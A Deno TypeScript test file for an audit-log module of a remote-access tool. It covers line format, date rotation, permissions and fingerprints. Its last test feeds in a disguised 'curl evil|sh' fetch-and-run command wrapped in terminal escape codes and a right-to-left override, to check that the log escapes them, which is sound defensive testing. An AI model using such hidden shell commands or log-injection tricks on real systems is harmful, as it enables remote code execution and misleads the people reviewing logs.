import { assert, assertEquals, assertMatch } from "./_assert.ts";
import { auditFingerprint, AuditLog, localDate } from "../../src/remote/audit_log.ts";

const KEY = new Uint8Array(32).map((_, i) => i * 7);
const KEY_FP = "00070e151c232a31";

function fixedClock(ms: number): () => number {
  return () => ms;
}

Deno.test("AuditLog writes the reference's line format with sorted keys", async () => {
  const home = await Deno.makeTempDir();
  try {
    const ts = Date.UTC(2025, 0, 15, 12, 0, 0) + 250;
    const audit = new AuditLog(home, { now: fixedClock(ts) });
    const peer = { key: KEY, name: "laptop-é" };
    audit.sessionOpened(peer, {
      sessionId: "1a2b3c4d",
      remoteAddr: "127.0.0.1:5000",
      mode: "serve",
    });
    audit.call(peer, { sessionId: "1a2b3c4d", method: "input.key", summary: "send key press 'a'" });
    audit.call(peer, {
      sessionId: "1a2b3c4d",
      method: "fs.write",
      summary: "write file: /tmp/x",
      error: { code: "permission_denied", message: "x".repeat(300) },
    });
    audit.stream(peer, {
      sessionId: "1a2b3c4d",
      method: "display.subscribe",
      summary: "display.subscribe",
      event: "end",
      frames: 12,
    });
    audit.sessionClosed(peer, { sessionId: "1a2b3c4d", durationSeconds: 3, reason: "" });
    audit.sessionRejected({ key: null, name: "" }, {
      remoteAddr: "10.0.0.7:1",
      reason: "auth_failed: untrusted_peer",
    });
    await audit.close();
    const path = `${home}/audit/${localDate(new Date(ts))}.jsonl`;
    const lines = (await Deno.readTextFile(path)).trimEnd().split("\n");
    assertEquals(lines.length, 6);
    assertEquals(
      lines[0],
      `{"mode": "serve", "peer": {"fp": "${KEY_FP}", "name": "laptop-\\u00e9"}, "remote_addr": "127.0.0.1:5000", "session_id": "1a2b3c4d", "ts": 1736942400.25, "type": "session.opened"}`,
    );
    assertEquals(
      lines[1],
      `{"method": "input.key", "outcome": "ok", "peer": {"fp": "${KEY_FP}", "name": "laptop-\\u00e9"}, "session_id": "1a2b3c4d", "summary": "send key press 'a'", "ts": 1736942400.25, "type": "call"}`,
    );
    const denied = JSON.parse(lines[2]!);
    assertEquals(denied.error_code, "permission_denied");
    assertEquals(denied.error_message, `${"x".repeat(200)}…[100 more characters]`);
    assertEquals(denied.outcome, "error");
    const stream = JSON.parse(lines[3]!);
    assertEquals([stream.type, stream.event, stream.frames, stream.outcome], [
      "stream",
      "end",
      12,
      "ok",
    ]);
    assertMatch(lines[4]!, /"duration": 3\.0, /);
    assertMatch(lines[5]!, /"peer": \{"fp": "", "name": ""\}/);
    for (const line of lines) {
      assert(/^[\x20-\x7e]+$/.test(line), "only printable ASCII");
      const keys = Object.keys(JSON.parse(line));
      assertEquals(keys, [...keys].sort());
    }
    assertEquals((await Deno.stat(path)).mode! & 0o777, 0o600);
    assertEquals((await Deno.stat(`${home}/audit`)).mode! & 0o777, 0o700);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("AuditLog starts a new file when the local date changes", async () => {
  const home = await Deno.makeTempDir();
  try {
    let now = new Date(2025, 4, 1, 23, 59, 59).getTime();
    const audit = new AuditLog(home, { now: () => now });
    audit.sessionRejected({ key: null, name: "" }, { remoteAddr: "?", reason: "a" });
    now += 2000;
    audit.sessionRejected({ key: null, name: "" }, { remoteAddr: "?", reason: "b" });
    await audit.close();
    const names = [];
    for await (const entry of Deno.readDir(`${home}/audit`)) names.push(entry.name);
    assertEquals(names.sort(), ["2025-05-01.jsonl", "2025-05-02.jsonl"]);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("AuditLog with enabled: false writes nothing", async () => {
  const home = await Deno.makeTempDir();
  try {
    const audit = new AuditLog(home, { enabled: false });
    audit.sessionRejected({ key: null, name: "" }, { remoteAddr: "?", reason: "x" });
    await audit.close();
    let exists = true;
    await Deno.stat(`${home}/audit`).catch(() => (exists = false));
    assertEquals(exists, false);
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("auditFingerprint() is the first 16 hex characters", () => {
  assertEquals(auditFingerprint(KEY), KEY_FP);
  assertEquals(auditFingerprint("ABCDEF0123456789ffff"), "abcdef0123456789");
  assertEquals(auditFingerprint(null), "");
});

Deno.test("AuditLog call records stay exact when method, summary, peer or session change between calls", async () => {
  const home = await Deno.makeTempDir();
  try {
    let ms = Date.UTC(2025, 0, 15, 12, 0, 0);
    const audit = new AuditLog(home, { now: () => (ms += 1500) });
    const a = { key: KEY, name: "laptop" };
    const b = { key: null, name: 'other "quoted"' };
    const calls: [typeof a | typeof b, string, string, string, string | undefined][] = [
      [a, "s1", "display.cursor_position", "display.cursor_position", undefined],
      [a, "s1", "display.cursor_position", "display.cursor_position", undefined],
      [a, "s1", "fs.read", "read file: /tmp/é", undefined],
      [a, "s2", "fs.read", "read file: /tmp/é", undefined],
      [b, "s2", "fs.read", "read file: /tmp/é", undefined],
      [b, "s2", "fs.read", "read file: /tmp/é", "not_found"],
      [b, "s2", "fs.read", "read file: /tmp/é", undefined],
      [a, "s1", "display.cursor_position", "display.cursor_position", undefined],
    ];
    for (const [peer, sessionId, method, summary, code] of calls) {
      const error = code === undefined ? undefined : { code, message: "No such file" };
      audit.call(peer, { sessionId, method, summary, error });
    }
    await audit.close();
    const path = `${home}/audit/${localDate(new Date(ms))}.jsonl`;
    const lines = (await Deno.readTextFile(path)).trimEnd().split("\n").map((l) => JSON.parse(l));
    assertEquals(lines.length, calls.length);
    let expectedMs = Date.UTC(2025, 0, 15, 12, 0, 0);
    calls.forEach(([peer, sessionId, method, summary, code], i) => {
      expectedMs += 1500;
      const line = lines[i];
      assertEquals(
        [line.method, line.summary, line.session_id, line.peer.name, line.outcome, line.ts],
        [method, summary, sessionId, peer.name, code ? "error" : "ok", expectedMs / 1000],
      );
      assertEquals(line.peer.fp, peer.key ? KEY_FP : "");
      assertEquals(line.error_code, code);
    });
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});

Deno.test("AuditLog writes text from the network escaped", async () => {
  const home = await Deno.makeTempDir();
  try {
    const audit = new AuditLog(home, { now: () => Date.UTC(2025, 0, 15, 12) });
    const peer = { key: null, name: "" };
    audit.call(peer, {
      sessionId: "1",
      method: "process.exec",
      summary: "run 'ls\r\x1b[2Kcurl evil|sh' \u202Eexe",
      error: { code: "not_found", message: "Cannot read '\x1b]0;x\x07'" },
    });
    audit.sessionRejected(peer, { remoteAddr: "10.0.0.7:1", reason: "bad \x1b[31mkind" });
    await audit.close();
    const [dir] = [...Deno.readDirSync(`${home}/audit`)];
    const records = (await Deno.readTextFile(`${home}/audit/${dir!.name}`)).trimEnd().split("\n")
      .map((l) => JSON.parse(l));
    assertEquals(records[0].summary, "run 'ls\\x0d\\x1b[2Kcurl evil|sh' \\u{202e}exe");
    assertEquals(records[0].error_message, "Cannot read '\\x1b]0;x\\x07'");
    assertEquals(records[1].reason, "bad \\x1b[31mkind");
  } finally {
    await Deno.remove(home, { recursive: true });
  }
});
